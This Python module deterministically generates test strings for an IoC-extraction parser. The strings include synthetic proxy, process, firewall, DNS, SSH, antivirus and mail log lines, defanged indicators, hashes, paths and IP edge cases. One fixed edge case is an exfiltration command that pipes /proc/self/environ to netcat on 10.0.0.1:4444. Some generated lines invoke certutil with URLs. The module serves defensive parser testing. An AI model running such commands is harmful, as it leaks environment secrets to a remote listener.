"""Deterministic generator of IoC-extraction inputs for the parity tests.

The strings mix realistic security log lines with edge cases that stress the
regular expressions, TLD validation and defang handling of ``IoCExtract``:
URLs (userinfo, ports, percent-encoding, nested encoded URLs), defanged
indicators, e-mail addresses, file hashes, Windows and Linux paths, IPv4 and
IPv6 corner cases, domains with valid and invalid TLDs, internationalised and
confusable domain names, whitespace-only strings and random noise.

Only the standard library is used and all randomness comes from a single
``random.Random(seed)``, so the same ``(n, seed)`` always yields the same list.
"""

from __future__ import annotations

import random
import string
from collections.abc import Callable
from urllib.parse import quote

__all__ = ["FIXED_EDGE_CASES", "generate_strings"]

_WORDS: tuple[str, ...] = (
    "evil",
    "login",
    "update",
    "cdn",
    "mail",
    "secure",
    "portal",
    "api",
    "files",
    "download",
    "microsoft",
    "office",
    "contoso",
    "fabrikam",
    "example",
    "bank",
    "paypal",
    "dropbox",
    "github",
    "static",
    "img",
    "auth",
    "vpn",
    "admin",
    "test",
    "dev",
    "prod",
    "corp",
    "intranet",
    "my-site",
    "web-01",
    "c2",
    "beacon",
    "x",
    "a1",
    "0day",
    "pastebin",
    "bit",
    "tiny",
    "track",
    "stats",
    "ns1",
    "smtp",
    "owa",
    "sharepoint",
    "azure",
    "aws",
    "s3",
    "cloudfront",
    "akamai",
    "go",
)
_VALID_TLDS: tuple[str, ...] = (
    "com",
    "net",
    "org",
    "ru",
    "cn",
    "io",
    "uk",
    "co.uk",
    "de",
    "info",
    "xyz",
    "top",
    "gov",
    "edu",
    "biz",
    "me",
    "tk",
    "su",
    "onion",
    "zip",
    "mov",
    "sh",
    "py",
    "bd",
    "jp",
    "co.jp",
    "com.au",
    "fr",
    "nl",
    "ly",
    "to",
    "ws",
    "cc",
    "club",
    "online",
)
_INVALID_TLDS: tuple[str, ...] = (
    "iandom",
    "local",
    "lan",
    "corp",
    "internal",
    "localdomain",
    "exe",
    "dll",
    "txt",
    "ps1",
    "zzz",
    "invalidtld",
    "bat",
    "tmp",
    "log",
    "cfg",
    "a",
    "q1",
)
_FILE_NAMES: tuple[str, ...] = (
    "cmd.exe",
    "powershell.exe",
    "svchost.exe",
    "rundll32.exe",
    "notepad.exe",
    "invoice.pdf.exe",
    "payload.dll",
    "run.ps1",
    "setup.msi",
    "report.docx",
    "a.txt",
    "mimikatz.exe",
    "beacon.bin",
    "update.zip",
    "clip.mov",
    "install.sh",
    "main.py",
    "config.json",
    "passwd",
    "shadow",
    ".bashrc",
    "id_rsa",
    "nc",
)
_WIN_DIRS: tuple[str, ...] = (
    "Windows",
    "System32",
    "SysWOW64",
    "Users",
    "Public",
    "AppData",
    "Local",
    "Temp",
    "Roaming",
    "Program Files",
    "Program Files (x86)",
    "ProgramData",
    "Microsoft",
    "Downloads",
    "Desktop",
    "Start Menu",
    "Startup",
    "$Recycle.Bin",
    "bob",
)
_LX_DIRS: tuple[str, ...] = (
    "etc",
    "usr",
    "bin",
    "sbin",
    "tmp",
    "var",
    "log",
    "home",
    "root",
    "opt",
    "lib",
    "dev",
    "shm",
    "proc",
    "self",
    "local",
    ".ssh",
    ".cache",
    "www",
    "html",
    "cron.d",
)
_SCHEMES: tuple[str, ...] = (
    "http",
    "https",
    "ftp",
    "sftp",
    "ftps",
    "telnet",
    "ldap",
    "file",
    "HTTP",
    "Https",
    "ws",
    "gopher",
    "smb",
    "ssh",
)
_DEFANGED_SCHEMES: tuple[str, ...] = (
    "hxxp",
    "hxxps",
    "hXXp",
    "hXXps",
    "HXXP",
    "fXp",
    "sfXp",
    "fXps",
    "fxp",
)
_BROAD_ALPHABET: str = (
    string.ascii_letters
    + string.digits * 2
    + string.punctuation
    + " \t\n\r\x00\x0b\x0c"
    + "./:\\@[]%-_=?&#~" * 3
    + "abcdefABCDEF0123456789" * 2
    + "üéßàñøåİıſ\u212aΩλж"
    + "\u0430\u0435\u043e\u0440\u0441"  # Cyrillic а е о р с (Latin look-alikes)
    + "\u0663\uff11\uff12"  # Arabic-Indic three, fullwidth one/two
    + "\u00a0\u2003\u2028\u3000"  # non-ASCII whitespace
    + "\u200b\u200d\ufeff\u202e"  # zero-width characters and RTL override
    + "中文日本\U0001f600\U0001f4a9"
)

FIXED_EDGE_CASES: tuple[str, ...] = (
    # empty and whitespace-only
    "",
    " ",
    "   \t  ",
    "\n",
    "\r\n\t",
    "\u00a0",
    # nested percent-encoded URLs
    "http://a.com/r?u=http%3A%2F%2Fevil.ru%2Fx",
    "http://b.com/ http://a.com/r?u=http%3A%2F%2Fevil.ru%2Fx",
    "http://a.com/r?u=http%3A%2F%2Fevil.ru%2Fx http://b.com/r?u=http%3A%2F%2Fevil2.ru%2Fx",
    "http://a.com/r?u=http%253A%252F%252Fdouble.ru%252F",
    "http://a.com/r?u=file%3A%2F%2F%2Fetc%2Fpasswd",
    "http://a.com/r?u=http%3A%2F%2Fevil.iandom%2Fx",
    "https://t.co/redirect?url=https%3A%2F%2F1.2.3.4%3A8443%2Fpayload.exe",
    "http://%65%76%69%6c.com/%2e%2e/x",
    # URL structure
    "http://user:pw@host.com:8080/p?q=1#f",
    "https://[2001:db8::1]:443/index.html",
    "http://[::1]/",
    "ftp://anonymous@ftp.example.org:21/pub/file.tar.gz",
    "file:///C:/Windows/System32/drivers/etc/hosts",
    "ldap://dc01.corp.contoso.com/CN=Users,DC=corp",
    "telnet://192.168.0.1:23",
    "http://a.com:/x",
    "http://a.com:99999999/x",
    "http://",
    "https://?q=1",
    "http://a.com/path with space",
    'http://a.com/"quoted"<tag>',
    '<a href="http://evil.com/x.php?id=1&amp;b=2">click</a>',
    "(see http://example.com/wiki/Foo_(bar))",
    "HTTP://EVIL.COM/UPPER?Q=1",
    "http://a.com:\u0663\u0663/x",
    "http://a.com/x[.]y/hXXp",
    # defanged
    "hxxp://evil[.]com/x",
    "hXXps://evil[.]com",
    "fXp://1.2.3[.]4/",
    "hxxps://login[.]microsoftonline[.]com[.]evil[.]ru/owa",
    "evil[.]com",
    "1.2.3[.]4",
    "1[.]2[.]3[.]4",
    "1[.2.3.4",
    "1.]2.3.4",
    "bob[at]evil[.]com",
    "bob[AT]evil.com",
    "bob [at] evil [.] com",
    "alice[at]mail[.]example[.]co[.]uk",
    # e-mail
    "bob@example.com",
    "first.last+tag@sub.example.co.uk",
    "weird!#$%&'*+/=?^_`{|}~-@example.org",
    "no-tld@localhost",
    "a@b@c.com",
    "user@[1.2.3.4]",
    # hashes
    "d41d8cd98f00b204e9800998ecf8427e",
    "D41D8CD98F00B204E9800998ECF8427E",
    "d41d8cd98f00b204e9800998ecf8427e da39a3ee5e6b4b0d3255bfef95601890afd80709",
    "da39a3ee5e6b4b0d3255bfef95601890afd80709 "
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "0d41d8cd98f00b204e9800998ecf8427e",
    "d41d8cd98f00b204e9800998ecf8427ed41d8cd98f00b204e9800998ecf8427e",
    "MD5=d41d8cd98f00b204e9800998ecf8427e,SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4"
    "649B934CA495991B7852B855",
    "d41d8cd98f00b204e9800998ecf8427e\nd41d8cd98f00b204e9800998ecf8427f",
    "a" * 64,
    # Windows paths
    "C:\\Windows\\System32\\cmd.exe",
    "c:\\program files\\app\\app.exe /arg",
    "\\\\fileserver\\share$\\dept\\budget.xlsx",
    ".\\foo\\bar.exe",
    "..\\..\\windows\\win.ini",
    "C:\\",
    "C:/Windows/notepad.exe",
    "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\evil.lnk",
    # Linux paths
    "/etc/passwd",
    "/usr/bin/python3 -c 'import os'",
    "./configure --prefix=/usr/local",
    "../../etc/shadow",
    "//server/share/file",
    "/tmp/.X11-unix/x0",
    "/",
    "cat /proc/self/environ | nc 10.0.0.1 4444",
    # IPv4
    "999.1.1.1",
    "010.001.002.003",
    "1.2.3",
    "abc1.2.3.4def",
    "1.2.3.4.5",
    "255.255.255.255 0.0.0.0 127.0.0.1",
    "1.2.3.4:8080",
    "ip=10.0.0.1,dst=10.0.0.2;",
    "1.2.3.04",
    "1234.1.1.1",
    "v1.2.3.4-beta",
    # IPv6
    "2001:0db8:85a3:0000:0000:8a2e:0370:7334",
    "2001:db8::8a2e:370:7334",
    "::1",
    "::",
    "fe80::1%eth0",
    "::ffff:1.2.3.4",
    "[2001:db8::1]:443",
    "1:2:3:4:5:6:7:8:9",
    "1::2::3",
    "aa:bb:cc:dd:ee:ff",
    "AA-BB-CC-DD-EE-FF",
    "at 10:22:33 the job ran",
    "12:00",
    "a::b",
    "FE80:0000:0000:0000:0202:B3FF:FE1E:8329",
    "gggg::1",
    "src=2001:db8::1,dst=2001:db8::2",
    # domains and TLDs
    "domain.like.uk",
    "domain.like.iandom",
    "co.uk",
    "x.bd",
    "www.bbc.co.uk",
    "foo.localdomain",
    "localhost",
    "invoice.zip report.mov install.sh main.py",
    "svchost.exe payload.dll",
    "-leading-hyphen.com",
    "trailing-.com",
    "a--b.com",
    "xn--bcher-kva.com",
    "b\u00fccher.com",
    "\u0430pple.com",
    "goo\u200bgle.com",
    "www.\u4e2d\u6587.com",
    "\u017ftuff.com",
    "\u212aelvin.com",
    "\u0131stanbul.com",
    "\u0130stanbul.com",
    "EXAMPLE.COM",
    "Example.Com.",
    "a" * 63 + ".com",
    "a" * 64 + ".com",
    "b" * 70 + ".example.com",
    ".".join(["a"] * 130) + ".com",
    ".".join(["ab"] * 127) + ".org",
    "1.2.3.4.example.com",
    "example.c",
    "example.comx",
    "example." + "c" * 64,
)


def _label(rng: random.Random) -> str:
    """Return one DNS label (mostly words, sometimes random or edgy)."""
    roll = rng.random()
    if roll < 0.55:
        return rng.choice(_WORDS)
    if roll < 0.75:
        alphabet = string.ascii_lowercase + string.digits
        return "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 12)))
    if roll < 0.85:
        return f"{rng.choice(_WORDS)}-{rng.choice(_WORDS)}"
    if roll < 0.9:
        return "xn--" + "".join(rng.choice("abcdefghijklmnop0123456789") for _ in range(6))
    if roll < 0.95:
        return rng.choice(["b\u00fccher", "\u0430pple", "m\u00fcnchen", "caf\u00e9", "\u017ftuff"])
    return "".join(rng.choice("abc-") for _ in range(rng.randint(1, 70)))


def _domain(rng: random.Random, valid_ratio: float = 0.75) -> str:
    """Return a domain name with a (mostly) valid TLD."""
    labels = [_label(rng) for _ in range(rng.randint(1, 4))]
    tld = rng.choice(_VALID_TLDS) if rng.random() < valid_ratio else rng.choice(_INVALID_TLDS)
    return ".".join([*labels, tld])


def _ipv4(rng: random.Random) -> str:
    """Return an IPv4 address, occasionally malformed."""
    roll = rng.random()
    if roll < 0.6:
        return ".".join(str(rng.randint(0, 255)) for _ in range(4))
    if roll < 0.75:
        prefix = rng.choice(["10", "192.168", "172.16", "127.0", "169.254"])
        parts = prefix.split(".")
        parts += [str(rng.randint(0, 255)) for _ in range(4 - len(parts))]
        return ".".join(parts)
    if roll < 0.85:
        return ".".join(f"{rng.randint(0, 255):03d}" for _ in range(4))
    if roll < 0.92:
        return ".".join(str(rng.randint(0, 999)) for _ in range(4))
    return ".".join(str(rng.randint(0, 255)) for _ in range(rng.choice([2, 3, 5, 6])))


def _hex(rng: random.Random, n: int) -> str:
    """Return ``n`` random hex digits."""
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def _ipv6(rng: random.Random) -> str:
    """Return an IPv6 address (or an IPv6-like string)."""
    roll = rng.random()

    def group() -> str:
        return _hex(rng, rng.randint(1, 4))

    if roll < 0.25:
        return ":".join(_hex(rng, 4) for _ in range(8))
    if roll < 0.5:
        left = [group() for _ in range(rng.randint(0, 3))]
        right = [group() for _ in range(rng.randint(0, 3))]
        return ":".join(left) + "::" + ":".join(right)
    if roll < 0.6:
        return f"fe80::{group()}%{rng.choice(['eth0', 'en0', '12', 'lo'])}"
    if roll < 0.68:
        return f"::ffff:{_ipv4(rng)}"
    if roll < 0.76:
        return f"[{group()}:{group()}::{group()}]:{rng.randint(1, 65535)}"
    if roll < 0.84:
        return ":".join(group() for _ in range(rng.randint(2, 10)))
    if roll < 0.9:
        return ":".join(_hex(rng, 2) for _ in range(6))
    if roll < 0.95:
        return f"{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d}"
    return f"{group()}::{group()}::{group()}"


def _hash(rng: random.Random) -> str:
    """Return an md5/sha1/sha256-like hex string, sometimes in a longer hex run."""
    length = rng.choice([32, 40, 64, 32, 40, 64, 31, 33, 39, 41, 63, 65, 96, 128])
    value = _hex(rng, length)
    roll = rng.random()
    if roll < 0.2:
        value = value.upper()
    elif roll < 0.3:
        value = "".join(c.upper() if rng.random() < 0.5 else c for c in value)
    if rng.random() < 0.15:
        value = f"{value} {_hex(rng, rng.choice([32, 40, 64]))}"
    return value


def _userinfo(rng: random.Random) -> str:
    """Return URL userinfo including the trailing ``@`` (or nothing)."""
    if rng.random() < 0.8:
        return ""
    user = rng.choice(["user", "admin", "anonymous", "a%40b", "x"])
    if rng.random() < 0.5:
        user += ":" + rng.choice(["pw", "p%40ss", "secret", ""])
    return user + "@"


def _host(rng: random.Random) -> str:
    """Return a URL host: domain, IPv4, bracketed IPv6 or encoded name."""
    roll = rng.random()
    if roll < 0.7:
        return _domain(rng)
    if roll < 0.85:
        return _ipv4(rng)
    if roll < 0.93:
        return f"[{_ipv6(rng)}]"
    return "".join(f"%{ord(c):02X}" for c in rng.choice(_WORDS)) + ".com"


def _path(rng: random.Random) -> str:
    """Return a URL path (possibly empty) including the leading slash."""
    segments = []
    for _ in range(rng.randint(0, 4)):
        roll = rng.random()
        if roll < 0.6:
            segments.append(rng.choice([*_WORDS, *_FILE_NAMES]))
        elif roll < 0.75:
            segments.append(quote(rng.choice(["a b", "é", "x/y", "?", "#", "%", "..", "ü"])))
        elif roll < 0.85:
            segments.append(_hex(rng, rng.choice([8, 32, 40])))
        else:
            segments.append(rng.choice(["", "~user", "a[.]b", "hXXp", "index.php", "%2e%2e"]))
    if not segments:
        return rng.choice(["", "/"])
    path = "/" + "/".join(segments)
    return path + ("/" if rng.random() < 0.2 else "")


def _query(rng: random.Random) -> str:
    """Return a query string (possibly empty) including the ``?``."""
    if rng.random() < 0.5:
        return ""
    pairs = []
    for _ in range(rng.randint(1, 4)):
        key = rng.choice(["id", "q", "url", "redirect", "u", "token", "s", "ref"])
        roll = rng.random()
        if roll < 0.4:
            value = rng.choice(_WORDS)
        elif roll < 0.6:
            value = str(rng.randint(0, 10**6))
        elif roll < 0.8:
            value = quote(f"http://{_domain(rng)}/x", safe="")
        else:
            value = quote(rng.choice(["a b&c", "ü", "<script>", "1.2.3.4", "x@y.com"]), safe="")
        pairs.append(f"{key}={value}")
    return "?" + "&".join(pairs)


def _url(rng: random.Random, scheme: str | None = None) -> str:
    """Return a URL with random components."""
    scheme = scheme or rng.choice(_SCHEMES)
    port = f":{rng.choice([80, 443, 8080, 8443, 21, 4444, 65535, 0])}" if rng.random() < 0.2 else ""
    fragment = f"#{rng.choice(['top', 'a=1', 'x/y', '%20', ''])}" if rng.random() < 0.15 else ""
    return f"{scheme}://{_userinfo(rng)}{_host(rng)}{port}{_path(rng)}{_query(rng)}{fragment}"


def _nested_url(rng: random.Random) -> str:
    """Return a URL whose query carries another (percent-encoded) URL."""
    inner = _url(rng, rng.choice(["http", "https", "ftp", "file"]))
    encoded = quote(inner, safe="")
    if rng.random() < 0.2:
        encoded = quote(encoded, safe="")
    elif rng.random() < 0.2:
        encoded = encoded.lower()
    outer = f"{rng.choice(['http', 'https'])}://{_domain(rng)}/{rng.choice(['r', 'redir', 'l'])}"
    return f"{outer}?{rng.choice(['u', 'url', 'q'])}={encoded}"


def _defang(rng: random.Random, value: str) -> str:
    """Return ``value`` with typical defanging applied to some of its parts."""
    out = value
    if rng.random() < 0.8:
        out = "".join("[.]" if c == "." and rng.random() < 0.7 else c for c in out)
    if "://" in out and rng.random() < 0.8:
        scheme, rest = out.split("://", 1)
        low = scheme.lower()
        if low.startswith("http"):
            scheme = rng.choice(["hxxp", "hXXp", "HXXP"]) + scheme[4:]
        elif "ftp" in low:
            scheme = low.replace("ftp", rng.choice(["fXp", "fxp"]))
        out = f"{scheme}://{rest}"
    if "@" in out and rng.random() < 0.8:
        out = out.replace("@", rng.choice(["[at]", "[AT]", " [at] ", "[@]", "(at)"]), 1)
    return out


def _email(rng: random.Random) -> str:
    """Return an e-mail address."""
    user = rng.choice(["bob", "alice.smith", "first.last+tag", "x_y", "o'neil", "admin", "1"])
    return f"{user}@{_domain(rng)}"


def _winpath(rng: random.Random) -> str:
    """Return a Windows path (drive, UNC, relative or env-var rooted)."""
    folders = "\\".join(rng.choice(_WIN_DIRS) for _ in range(rng.randint(0, 4)))
    folders = folders + "\\" if folders else ""
    name = rng.choice(_FILE_NAMES)
    root = rng.choice(["C:\\", "c:\\", "D:\\", "\\\\srv01\\share$\\", ".\\", "..\\", "%TEMP%\\"])
    return f"{root}{folders}{name}"


def _lxpath(rng: random.Random) -> str:
    """Return a Linux path (absolute or relative)."""
    folders = "/".join(rng.choice(_LX_DIRS) for _ in range(rng.randint(0, 4)))
    root = rng.choice(["/", "/", "./", "../", "~/", "//"])
    name = rng.choice(_FILE_NAMES)
    return f"{root}{folders}/{name}" if folders else f"{root}{name}"


def _noise(rng: random.Random) -> str:
    """Return random characters drawn from a broad alphabet."""
    return "".join(rng.choice(_BROAD_ALPHABET) for _ in range(rng.randint(1, 80)))


def _timestamp(rng: random.Random) -> str:
    """Return an ISO-like timestamp (contains ``hh:mm:ss``)."""
    return (
        f"2024-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}T"
        f"{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d}Z"
    )


def _log_proxy(rng: random.Random) -> str:
    method = rng.choice(["GET", "POST", "CONNECT"])
    ua = rng.choice(
        ["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "curl/8.1", "python-requests/2.31"]
    )
    return (
        f"{_timestamp(rng)} {_ipv4(rng)} {method} {_url(rng, rng.choice(['http', 'https']))} "
        f'{rng.choice([200, 302, 403, 404])} {rng.randint(0, 99999)} "{ua}"'
    )


def _log_process(rng: random.Random) -> str:
    image = _winpath(rng)
    return (
        f"Process Create: UtcTime: {_timestamp(rng)} Image: {image} "
        f'CommandLine: "{image}" /c {rng.choice(["whoami", "net user", "certutil -f"])} '
        f"{_url(rng) if rng.random() < 0.4 else _winpath(rng)} "
        f"Hashes: MD5={_hex(rng, 32).upper()},SHA256={_hex(rng, 64).upper()} "
        f"ParentImage: {_winpath(rng)} User: CORP\\{rng.choice(['bob', 'svc_sql', 'admin'])}"
    )


def _log_firewall(rng: random.Random) -> str:
    proto = rng.choice(["TCP", "UDP", "ICMP"])
    src = _ipv4(rng) if rng.random() < 0.8 else _ipv6(rng)
    dst = _ipv4(rng) if rng.random() < 0.8 else _ipv6(rng)
    return (
        f"{_timestamp(rng)} {rng.choice(['ALLOW', 'DENY', 'DROP'])} {proto} "
        f"{src}:{rng.randint(1024, 65535)} -> {dst}:{rng.choice([22, 53, 80, 443, 3389])} "
        f"if=eth{rng.randint(0, 3)} mac={':'.join(_hex(rng, 2) for _ in range(6))}"
    )


def _log_dns(rng: random.Random) -> str:
    if rng.random() < 0.5:
        return (
            f"client {_ipv4(rng)}#{rng.randint(1024, 65535)} ({_domain(rng)}): query: "
            f"{_domain(rng)} IN {rng.choice(['A', 'AAAA', 'TXT', 'MX'])} +E(0)"
        )
    answer = _ipv4(rng) if rng.random() < 0.6 else _ipv6(rng)
    return f"dnsmasq[{rng.randint(100, 9999)}]: reply {_domain(rng, 0.5)} is {answer}"


def _log_sshd(rng: random.Random) -> str:
    user = rng.choice(["root", "admin", "ubuntu", "invalid user test"])
    src = _ipv4(rng) if rng.random() < 0.85 else _ipv6(rng)
    return (
        f"{_timestamp(rng)} host sshd[{rng.randint(100, 99999)}]: "
        f"{rng.choice(['Failed password', 'Accepted publickey'])} for {user} from {src} "
        f"port {rng.randint(1024, 65535)} ssh2: RSA SHA256:{_hex(rng, 43)}"
    )


def _log_av(rng: random.Random) -> str:
    threat = rng.choice(
        ["Trojan:Win32/Emotet", "Backdoor:Linux/Mirai.B", "HackTool:Win64/Mimikatz"]
    )
    target = _winpath(rng) if rng.random() < 0.7 else _lxpath(rng)
    return (
        f"Threat detected: {threat} file: {target} sha1: {_hex(rng, 40)} "
        f"origin: {_url(rng) if rng.random() < 0.5 else _defang(rng, _url(rng))} "
        f"action={rng.choice(['quarantined', 'blocked'])}"
    )


def _log_mail(rng: random.Random) -> str:
    return (
        f'From: "{rng.choice(_WORDS)}" <{_email(rng)}>\nTo: {_email(rng)}\n'
        f"Subject: invoice {rng.randint(1, 999)}\nReceived: from {_domain(rng)} "
        f"([{_ipv4(rng)}])\n\n{_defang(rng, _url(rng))}"
    )


_FRAGMENTS: tuple[tuple[Callable[[random.Random], str], int], ...] = (
    (_domain, 10),
    (_ipv4, 8),
    (_ipv6, 8),
    (_hash, 7),
    (_url, 12),
    (_nested_url, 5),
    (lambda rng: _defang(rng, _url(rng)), 6),
    (lambda rng: _defang(rng, _domain(rng)), 4),
    (lambda rng: _defang(rng, _ipv4(rng)), 3),
    (lambda rng: _defang(rng, _email(rng)), 3),
    (_email, 5),
    (_winpath, 5),
    (_lxpath, 5),
    (_noise, 4),
    (lambda rng: rng.choice(FIXED_EDGE_CASES), 4),
)
_LOG_LINES: tuple[Callable[[random.Random], str], ...] = (
    _log_proxy,
    _log_process,
    _log_firewall,
    _log_dns,
    _log_sshd,
    _log_av,
    _log_mail,
)
_SEPARATORS: tuple[str, ...] = (
    " ",
    " ",
    " ",
    "\t",
    "\n",
    "\r\n",
    ", ",
    ";",
    "|",
    "",
    " - ",
    "=",
    "'",
    '"',
    "\u00a0",
)


def _fragment(rng: random.Random) -> str:
    """Return one weighted-random fragment."""
    funcs = [f for f, _ in _FRAGMENTS]
    weights = [w for _, w in _FRAGMENTS]
    return rng.choices(funcs, weights=weights, k=1)[0](rng)


def _decorate(rng: random.Random, value: str) -> str:
    """Apply case changes, wrapping and trailing punctuation at random."""
    roll = rng.random()
    if roll < 0.08:
        value = value.upper()
    elif roll < 0.12:
        value = "".join(c.swapcase() if rng.random() < 0.3 else c for c in value)
    if rng.random() < 0.15:
        left, right = rng.choice([("(", ")"), ("[", "]"), ("<", ">"), ('"', '"'), ("'", "'")])
        value = f"{left}{value}{right}"
    if rng.random() < 0.1:
        value += rng.choice([".", ",", ";", ":", "!", "?", ")"])
    if rng.random() < 0.05:
        value = rng.choice(["x", "id=", "0", "_", "-"]) + value
    return value


def _one(rng: random.Random) -> str:
    """Return one generated input string."""
    roll = rng.random()
    if roll < 0.35:
        return _decorate(rng, rng.choice(_LOG_LINES)(rng))
    if roll < 0.6:
        return _decorate(rng, _fragment(rng))
    if roll < 0.95:
        parts = [_decorate(rng, _fragment(rng)) for _ in range(rng.randint(2, 5))]
        out = parts[0]
        for part in parts[1:]:
            out += rng.choice(_SEPARATORS) + part
        return out
    if roll < 0.98:
        return "".join(rng.choice(" \t\n\r\u00a0") for _ in range(rng.randint(0, 5)))
    return _noise(rng)


def generate_strings(n: int, seed: int = 1234) -> list[str]:
    """
    Return ``n`` deterministic input strings for IoC extraction.

    Parameters
    ----------
    n : int
        Number of strings to return.
    seed : int, optional
        Seed for ``random.Random`` (the default is 1234).

    Returns
    -------
    list[str]
        The hand-written edge cases in ``FIXED_EDGE_CASES`` (truncated if
        ``n`` is smaller) followed by generated strings; identical for
        identical arguments.

    """
    if n <= 0:
        return []
    out = list(FIXED_EDGE_CASES[:n])
    rng = random.Random(seed)
    while len(out) < n:
        out.append(_one(rng))
    return out
